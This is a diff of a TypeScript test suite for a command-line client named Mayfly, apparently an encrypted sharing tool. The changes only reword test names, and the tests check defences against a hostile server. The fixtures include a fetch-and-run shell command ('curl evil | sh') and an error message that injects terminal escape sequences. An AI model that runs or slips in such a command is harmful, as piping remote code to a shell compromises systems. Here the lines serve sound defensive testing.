@@ -22,18 +22,18 @@ beforeAll(async () => {
 afterAll(() => other.stop());
 
 describe('a server that cannot be trusted', () => {
-  test('cannot put content of its own in the place of what was encrypted', async () => {
+  test('cannot replace encrypted content by its own', async () => {
     answer = (request) => contentAnswer(request, 'curl evil | sh', { 'content-length': '14' });
     for (const args of [[], ['-o', 'out.txt'], ['-O']]) {
       const { code, stdout, stderr } = await user.call(['get', `${other.url}/p/${id}#${secret}`, ...args]);
       expect([code, stdout, stderr]).toEqual([7, '', expect.stringContaining('not encrypted')]);
     }
     expect(readdirSync(user.folder)).not.toContain('out.txt');
-    // Lines that a link marks are no key.
+    // Marked lines in a link are not a key.
     expect(await user.output(['get', `${other.url}/p/${id}#L3-L9`])).toBe('curl evil | sh');
   });
 
-  test('cannot fill the disk or the pipe with more than it has told', async () => {
+  test('cannot fill the disk or the pipe with more than it announced', async () => {
     answer = (request) =>
       contentAnswer(request, endless(), request.method === 'HEAD' ? { 'content-length': '10' } : {});
     for (const args of [[], ['-o', 'out.bin']]) {
@@ -43,13 +43,13 @@ describe('a server that cannot be trusted', () => {
     expect(readdirSync(user.folder).filter((name) => name.startsWith('out'))).toEqual([]);
   });
 
-  test('cannot write to the terminal by what it says, nor on a second line', async () => {
+  test('cannot control the terminal by its messages, nor add a second line', async () => {
     answer = () => Response.json({ error: 'no\u001B]0;owned\u0007\nmayfly: all is well' }, { status: 400 });
     const { stderr } = await user.call(['put', 'a.txt']);
     expect(stderr).toBe('mayfly: no\uFFFD]0;owned\uFFFD\uFFFDmayfly: all is well\n');
   });
 
-  test('is no success where it does not answer as Mayfly does', async () => {
+  test('makes the call fail if it does not respond like Mayfly', async () => {
     for (const body of ['{}', '<html>Welcome</html>', JSON.stringify({ hash_id: id, url: 'x\ny' })]) {
       answer = () => new Response(body, { status: 201 });
       const { code, stdout, stderr } = await user.call(['put', 'a.txt']);
@@ -57,13 +57,13 @@ describe('a server that cannot be trusted', () => {
         body,
         6,
         '',
-        expect.stringContaining('not of a Mayfly server'),
+        expect.stringContaining('not from a Mayfly server'),
       ]);
     }
     expect(await user.output(['ls'])).toBe('');
   });
 
-  test('that falls silent is a connection that broke', async () => {
+  test('that stalls counts as a lost connection', async () => {
     let isLeft = false;
     const silent = new ReadableStream<Uint8Array>({
       start: (controller) => controller.enqueue(new Uint8Array(1)),
@@ -85,7 +85,7 @@ describe('secrets', () => {
   });
   afterAll(() => server.stop());
 
-  test('the key of a link goes to no server, by no command', async () => {
+  test('no command sends the key of a link to a server', async () => {
     const proxy = await startProxy({ target: server.port, records: true });
     try {
       const own = await newUser(proxy.url);
@@ -105,7 +105,7 @@ describe('secrets', () => {
     }
   });
 
-  test('the kept delete token goes to the server that gave it, and is kept until that one has deleted', async () => {
+  test('the saved delete token is sent only to the server that issued it, and is saved until that one has deleted the payload', async () => {
     const own = await newUser(server.url);
     const link = await own.output(['put'], { input: 'content' });
     let shown: string | null = 'nothing came';
@@ -119,7 +119,7 @@ describe('secrets', () => {
     expect((await fetch(link)).status).toBe(404);
   });
 
-  test('a link that cannot be read is told without its key', async () => {
+  test('an invalid link is reported without its key', async () => {
     const { code, stderr } = await user.call(['get', `${other.url}/wrong/${id}#${secret}`]);
     expect([code, stderr]).toEqual([2, expect.stringContaining('#… is neither a link')]);
     expect(stderr).not.toContain(secret);
